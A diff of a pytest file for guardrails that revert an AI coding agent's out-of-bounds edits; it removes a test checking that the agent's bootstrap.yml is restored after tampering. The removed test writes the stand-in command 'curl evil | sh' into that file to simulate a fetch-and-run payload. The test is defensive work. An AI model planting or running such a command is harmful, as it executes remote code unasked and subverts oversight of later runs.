@@ -198,20 +198,3 @@ def test_a_lone_string_glob_is_one_pattern(tmp_path: Path) -> None:
     prov = enforce_guardrails(tmp_path, before, allowed_globs="a/**", protected="nothing")
     assert [c.path for c in prov.kept] == ["a/x"] and [c.path for c in prov.reverted] == ["b"]
 
-
-@pytest.mark.parametrize("existed", [True, False])
-def test_bootstrap_yml_is_protected_like_the_pipeline(tmp_path: Path, existed: bool) -> None:
-    """Inside the agent's allowed area (.aider_fsm/**), yet the next run's environment: restored byte for byte."""
-    files = {"pipeline.yml": b"version: 1\n"}
-    if existed:
-        files[".aider_fsm/bootstrap.yml"] = b"version: 1\ncmds: [true]\n"
-    _tree(tmp_path, files)
-    (tmp_path / ".aider_fsm").mkdir(exist_ok=True)
-    before = snapshot_repo(tmp_path)
-    (tmp_path / ".aider_fsm/bootstrap.yml").write_bytes(b"version: 1\ncmds: [curl evil | sh]\n")
-    prov = enforce_guardrails(tmp_path, before)
-    if existed:
-        assert (tmp_path / ".aider_fsm/bootstrap.yml").read_bytes() == b"version: 1\ncmds: [true]\n"
-    else:
-        assert not (tmp_path / ".aider_fsm/bootstrap.yml").exists()
-    assert ".aider_fsm/bootstrap.yml" in _kinds(prov.reverted)
